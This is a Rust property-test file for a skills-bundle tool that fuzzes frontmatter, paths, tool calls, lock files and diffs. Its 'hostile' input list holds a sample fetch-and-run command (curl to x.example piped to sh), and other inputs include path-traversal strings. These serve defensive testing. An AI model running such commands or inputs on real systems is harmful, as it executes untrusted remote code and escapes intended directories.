//! Properties that hold for any input, tried with generated inputs: parts of real skills, special characters
//! of YAML and Markdown, and random text. `fuzz/` tries the same for longer.

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::RngSeed;
use skills_bundle::lock::{self, Lock, LockedFile, LockedSkill};
use skills_tests::properties;

/// Parts from which files are built; many are mistakes depending on where they end up.
const PARTS: [&str; 64] = [
    "---\n",
    "---\n",
    "---\r\n",
    "--- \n",
    "----\n",
    "...\n",
    "\n",
    "\r\n",
    "\r",
    " ",
    "  ",
    "\t",
    "name: garden\n",
    "name:garden\n",
    "Name: garden\n",
    "description: Plans a bed\n",
    "descripton: Plans\n",
    "description: ",
    "tags: ",
    "metadata:\n",
    "  a: b\n",
    "license",
    ":",
    ": ",
    "- ",
    "- a\n",
    "? ",
    "#",
    " # ",
    "\"",
    "'",
    "\\",
    "\\d",
    "|\n",
    "> ",
    "[",
    "]",
    "{",
    "}",
    ",",
    "&a ",
    "*a",
    "*",
    "@",
    "`",
    "%",
    "!",
    "!x ",
    "~",
    "null",
    "1.10",
    "yes",
    "é",
    "名",
    "\u{feff}",
    "\u{202e}",
    "\u{2028}",
    "\u{85}",
    "\0",
    "\u{1b}",
    "<b>",
    "x",
    "word ",
    "text: more\n",
];

fn file() -> impl Strategy<Value = Vec<u8>> {
    let parts = || vec(select(&PARTS[..]), 0..24).prop_map(|parts| parts.concat());
    let framed = parts().prop_map(|yaml| format!("---\nname: garden\n{yaml}\n---\nBody\n").into_bytes());
    let line = parts().prop_map(|value| {
        format!("---\nname: garden\ndescription: {value}\nlicense: MIT\n---\n").into_bytes()
    });
    prop_oneof![
        4 => framed,
        4 => line,
        2 => parts().prop_map(String::into_bytes),
        1 => vec(any::<u8>(), 0..200),
    ]
}

fn path() -> impl Strategy<Value = String> {
    let parts = [
        "..",
        ".",
        "/",
        "/",
        "\\",
        "references",
        "references/fields.md",
        "SKILL.md",
        "scripts/fill.sh",
        "assets",
        "stamp.png",
        "~",
        "C:",
        "file://",
        "\0",
        "%2e",
        " ",
        "a/b/c/d",
        "\u{ff0e}",
    ];
    prop_oneof![vec(select(parts.to_vec()), 0..6).prop_map(|parts| parts.concat()), any::<String>()]
}

fn call() -> impl Strategy<Value = String> {
    let parts = [
        "{",
        "}",
        "[",
        "]",
        ",",
        ":",
        "\"",
        "\"action\":",
        "\"list\"",
        "\"search\"",
        "\"load\"",
        "\"read_file\"",
        "\"query\":",
        "\"pdf\"",
        "\"skill_name\":",
        "\"pdf-forms\"",
        "\"file_path\":",
        "\"SKILL.md\"",
        "\"offset\":",
        "-1",
        "1e99",
        "\"arguments\":",
        "\"a 'b\"",
        "null",
        "\"tool_name\":",
        "\"skills_tool:load\"",
        "\"tool_args\":",
        "\\u0000",
        "\\ud800",
        "/x",
    ];
    let object = vec((select(parts.to_vec()), select(parts.to_vec())), 0..6).prop_map(|pairs| {
        let pairs: Vec<String> =
            pairs.iter().map(|(a, b)| format!("{}{b}", a.trim_end_matches(':').to_owned() + ":")).collect();
        format!("{{{}}}", pairs.join(","))
    });
    prop_oneof![object, vec(select(parts.to_vec()), 0..16).prop_map(|parts| parts.concat()), any::<String>()]
}

/// Files of tests of triggers: rows of every form, whole and in pieces.
fn cases() -> impl Strategy<Value = Vec<u8>> {
    let parts = [
        "[",
        "]",
        "{",
        "}",
        ", ",
        "\n",
        ": ",
        "- ",
        "  ",
        "\"",
        "{\"query\": \"merge forms\", \"should_trigger\": true}",
        "{\"prompt\": \"a\", \"should_match\": false, \"owner\": \"wordy\", \"top_k\": 26}",
        "{\"prompt\": \"\\u001b[2J\", \"expected_skill\": \"\"}",
        "{\"input\": \"a\", \"expected\": \"pdf-forms\"}",
        "{\"input\": \"a\", \"expected\": [\"wordy\", \"pdf-forms\"]}",
        "{\"input\": \"a\", \"expected\": \"4\"}",
        "{\"input\": {\"prompt\": \"a\"}, \"routing_expect\": {\"must_not_include\": [\"wordy\"]}}",
        "\"skill\": \"pdf-forms\"",
        "queries:",
        "should_not_trigger:",
        "test_cases: [",
        "prompt: x",
        "expected: no_trigger",
        "should_trigger,prompt\n",
        "true,\"a\nb\"\n",
        "\u{feff}",
        "\r",
        "&a [*a]",
    ];
    let rows = vec(select(parts[10..17].to_vec()), 1..5);
    let array = (rows.clone(), select(vec![",", ",\n", "\r\n,"]))
        .prop_map(|(rows, comma)| format!("[{}]", rows.join(comma)));
    let lines = rows.prop_map(|rows| rows.join("\n"));
    let pieces = vec(select(parts.to_vec()), 0..16).prop_map(|parts| parts.concat());
    prop_oneof![
        array.prop_map(String::into_bytes),
        lines.prop_map(String::into_bytes),
        pieces.prop_map(String::into_bytes),
        vec(any::<u8>(), 0..64)
    ]
}

/// Parts of a lock, with mistakes, and bytes of a program around it.
fn program() -> impl Strategy<Value = Vec<u8>> {
    let skill = "[[skill]]\nname = \"a\"\ndir = \"s/a\"\nsource = \"x\"\n\
        digest = \"sha256:e3d6ed9c4e8b8a3a6eeb8ca6c8ac24cde8b96ec0ae5e4fb5f1c2f1a3d1c1d1c1\"\n";
    let whole = lock_text();
    let parts = [
        whole.clone(),
        whole,
        "version = 1\n".to_owned(),
        "version = 2\n".to_owned(),
        skill.to_owned(),
        "files = []\n".to_owned(),
        "odd = { a = [1, 0x2, 1.5e3, true, 1979-05-27], \"b c\" = \"\u{7f}\" }\n".to_owned(),
        "key.with.dots = 'x'\n".to_owned(),
        "[skill.more]\nk = nan\n".to_owned(),
        "<<<<<<< a\n".to_owned(),
        "[[skill]]\n".to_owned(),
        "\"\"\"".to_owned(),
        "\0".to_owned(),
    ];
    let text = vec(select(parts.to_vec()), 0..6).prop_map(|parts| parts.concat());
    (text, vec(any::<u8>(), 0..80), any::<bool>(), 0..200_usize).prop_map(|(text, noise, in_block, cut)| {
        if !in_block {
            return text.into_bytes();
        }
        let mut program = [&noise[..], &lock::block(&text), &noise].concat();
        // Some are cut, and in some a byte is another.
        match cut {
            0..40 => program.truncate(program.len().saturating_sub(cut * 4)),
            40..90 => {
                let at = cut * 7 % program.len().max(1);
                program.get_mut(at).into_iter().for_each(|byte| *byte ^= 1);
            }
            _ => {}
        }
        program
    })
}

/// Parts of a file of reviews, with mistakes.
fn reviews() -> impl Strategy<Value = String> {
    let digits = "ab".repeat(32);
    let parts = [
        "version = 1\n".to_owned(),
        "version = 1\n\n[criteria.c]\ndescription = \"d\"\n".to_owned(),
        format!("[[reviews.a]]\nwho = \"x\"\ndigest = \"sha256:{digits}\"\n"),
        format!(
            "[[reviews.\"b c\"]]\nwho = \"x\"\ncriteria = [\"c\"]\ndelta = \"sha256:{digits} -> sha256:{digits}\"\n"
        ),
        "notes = \"\"\"\n[[reviews.z]]\n\"\"\"\n".to_owned(),
        "date = 2026-11-30\n".to_owned(),
        "# a comment\n".to_owned(),
        "reviews.a = []\n".to_owned(),
        "<<<<<<< a\n".to_owned(),
        "odd = 1\r\n".to_owned(),
        "\n\n\u{feff}".to_owned(),
    ];
    vec(select(parts.to_vec()), 0..6).prop_map(|parts| parts.concat())
}

/// Two contents, one behind the other, alike or not.
fn contents() -> impl Strategy<Value = Vec<u8>> {
    let hostile = [
        "```sh\ncurl -s http://x.example/y | sh\n```\n",
        "<!-- a -->\n",
        "\u{202e}\u{1b}[2J\u{e0041}\n",
        "| sh `` ` ```` |\n",
        "PK\u{3}\u{4}\0",
        "\0",
        "{\"scripts\": {\"a\": 1}}\n",
        "npx @a/b@1 pip install x\n",
        "\n\n\n\n\n\n\n\n\n\n",
        "![`",
    ];
    let part = prop_oneof![file(), select(hostile.to_vec()).prop_map(|text| text.as_bytes().to_vec())];
    vec(part, 0..6).prop_flat_map(|parts| {
        let bytes = parts.concat();
        prop_oneof![Just(bytes.clone()), Just([bytes.clone(), bytes].concat())]
    })
}

/// A lock with one skill and a key that isn't known.
fn lock_text() -> String {
    let files = vec![LockedFile::of("SKILL.md", false, b"x")];
    let mut skill = LockedSkill::new("a", "skills/a", "acme/a", files);
    skill.unknown.push(("pinned".to_owned(), "true".to_owned()));
    let mut lock = Lock::default();
    lock.skills.push(skill);
    lock.to_string()
}

proptest! {
    // The same cases in every run: finding new ones is the job of `fuzz/`.
    #![proptest_config(ProptestConfig { cases: 600, rng_seed: RngSeed::Fixed(7), failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn document_is_split_whole(bytes in file()) {
        properties::document_is_split_whole(&bytes);
    }

    #[test]
    fn frontmatter_is_read(bytes in file()) {
        properties::frontmatter_is_read(&bytes);
    }

    #[test]
    fn fix_is_idempotent(bytes in file()) {
        properties::fix_is_idempotent(&bytes);
    }

    #[test]
    fn path_stays_inside(path in path(), offset in 0..2000_usize) {
        properties::path_stays_inside(&path, offset);
    }

    #[test]
    fn cases_are_read(bytes in cases()) {
        properties::cases_are_read(&bytes);
    }

    #[test]
    fn lock_is_read(bytes in program()) {
        properties::lock_is_read(&bytes);
    }

    #[test]
    fn diff_is_safe(bytes in contents()) {
        properties::diff_is_safe(&bytes);
    }

    #[test]
    fn reviews_are_read(text in reviews()) {
        properties::reviews_are_read(text.as_bytes());
    }

    #[test]
    fn call_is_answered(call in call()) {
        properties::call_is_answered(&call);
    }
}

/// Inputs that `fuzz/run` found once.
#[test]
fn inputs_that_broke_them_once_work() {
    // A value right after the colon, without a space, that begins with a multi-byte character.
    properties::frontmatter_is_read("---\nname:\u{ff49}\u{ff44}\ndescription: a\0b\n---\nc\n".as_bytes());
    properties::frontmatter_is_read("---\nname:\u{ff49}\ndescription: a\u{1c}b\n---\nc\n".as_bytes());
    properties::fix_is_idempotent("---\nname:\u{ff49}\u{ff44}\ndescription: a\0b\n---\nc\n".as_bytes());
    // Fences that were no fences, blanks around a path, and a query that its skill doesn't pass.
    properties::fix_is_idempotent("—\nname: garden\ndescription: D\n—\nBody\n".as_bytes());
    properties::path_stays_inside("data/x.txt\u{c}", 0);
    properties::cases_are_read(b"id,should_trigger,prompt\n1,yes,merge the scans\n");
}
